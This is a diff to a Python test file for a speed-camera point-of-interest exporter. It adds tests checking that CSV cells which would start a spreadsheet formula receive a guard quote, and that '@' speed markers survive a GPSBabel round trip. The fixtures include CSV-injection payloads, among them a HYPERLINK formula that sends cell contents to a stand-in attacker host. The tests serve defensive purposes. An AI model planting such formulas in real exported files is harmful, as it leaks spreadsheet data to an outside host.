@@ -13,6 +13,7 @@ from exporters.base import CameraSet, ExportError, get_exporter
 
 from . import interchange
 from tests.exporters.fixtures import SAMPLE_ROWS, scaled_cameras
+from tests.exporters.readers.gpi_reader import read_gpi
 from tests.exporters.interchange import (assert_positions_read_back, assert_same_bytes_in_any_order, assert_same_points,
                           category_title, check_golden_files)
 
@@ -108,6 +109,66 @@ def test_an_at_sign_in_a_road_name_is_not_mistaken_for_a_speed():
     cams = CameraSet.from_records([dict(id=1, lat=50.0, lon=8.0, speed=80, road="B3 @ Kassel")])
     (line,) = [r for lines in all_rows(export(cams)).values() for r in lines]
     assert line[2] == "Speed B3 Kassel@80"
+
+
+# Feed text a spreadsheet would run as a formula (OWASP "CSV Injection").
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+POI_LOADER_SPEED = re.compile(r"@(\d+)$")  # POI Loader: "@" and the speed at the end of the name
+
+
+def hostile_cameras() -> CameraSet:
+    """Cameras west of Greenwich (negative longitudes) whose road and description are hostile."""
+    return CameraSet.from_records([dict(id=i + 1, lat=51.5, lon=round(-0.1234 - i / 100, 6), speed=30 + 10 * i,
+                                        road=text, description=HOSTILE[-1 - i]) for i, text in enumerate(HOSTILE)])
+
+
+def test_text_cells_that_start_a_formula_get_a_quote_and_coordinates_stay_numbers():
+    result = export(hostile_cameras())
+    (data,) = [f.data for f in csv_files(result).values()]
+    rows = read_poi_csv(data)  # every line still: two bare numbers, two quoted texts
+    assert [(lon, lat) for lon, lat, _, _ in rows] == [(round(-0.1234 - i / 100, 6), 51.5) for i in range(6)]
+    for _, _, name, comment in rows:
+        for cell in (name, comment):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    comments = [c for _, _, _, c in rows]
+    # control characters became spaces first (a tab or CR can hide a formula behind it), then the guard
+    assert comments[0] == "'=1, =HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    assert comments[2] == "'@SUM(A1:A9), -2+3" and comments[3] == "'-2+3, SUM(A1:A9)"
+    assert comments[5] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\"), =1"
+    first = data.split(b"\r\n")[0]
+    assert first.startswith(b'-0.1234,51.5,"Speed =HYPERLINK(') and b'@30","\'=1, =HYPERLINK(' in first
+    assert [n for _, _, n, _ in rows][3] == "Speed SUM(A1:A9)@60"  # the road's "@" became a space
+
+
+def test_a_neutralised_file_reads_back_at_the_same_positions_in_gpsbabel(tmp_path):
+    cams = hostile_cameras()
+    files = csv_files(export(cams)).values()
+    assert_positions_read_back(files, "garmin_poi", lambda f: [(lon, lat) for lon, lat, _, _ in read_poi_csv(f.data)],
+                               cams, tmp_path, babel_tol=1e-9, reader_tol=1e-9)
+
+
+def test_only_the_speed_marker_is_an_at_sign_and_gpsbabel_alerts_at_that_speed(tmp_path):
+    """Roads with stray "@": every name has one "@", the speed at its end, and GPSBabel's GPI
+    writer (the POI Loader convention: what follows the first "@" is the speed) gives each
+    POI the camera's speed (km/h)."""
+    roads = ["Rue@Gare", "@home", "A@B@C", "B3 @ Kassel", "x@", "@"]
+    cams = CameraSet.from_records([dict(id=i + 1, lat=50.0 + i / 10, lon=8.0, speed=40 + 10 * i, road=road)
+                                   for i, road in enumerate(roads)])
+    (f,) = csv_files(export(cams)).values()
+    names = [n for _, _, n, _ in read_poi_csv(f.data)]
+    assert names == ["Speed Rue Gare@40", "Speed home@50", "Speed A B C@60", "Speed B3 Kassel@70", "Speed x@80",
+                     "Speed@90"]
+    assert all(n.count("@") == 1 and POI_LOADER_SPEED.search(n) for n in names)
+    # GPSBabel's garmin_poi reader keeps the quotes, so the names go in as unicsv, as read here
+    table = tmp_path / "names.csv"
+    with table.open("w", newline="", encoding="utf-8") as fh:
+        out = csv.writer(fh)
+        out.writerow(["lat", "lon", "name"])
+        out.writerows([(lat, lon, name) for lon, lat, name, _ in read_poi_csv(f.data)])
+    gpi = tmp_path / "cams.gpi"
+    interchange.gpsbabel("-i", "unicsv", "-f", str(table), "-o", "garmin_gpi,alerts=1,unique=0", "-F", str(gpi))
+    speeds = {p.name: round(p.alert.speed_cms * 0.036) for p in read_gpi(gpi.read_bytes()).pois}
+    assert speeds == {name: 40 + 10 * i for i, name in enumerate(names)}
 
 
 def test_quotes_and_commas_inside_text_are_quoted_and_read_back_exactly():
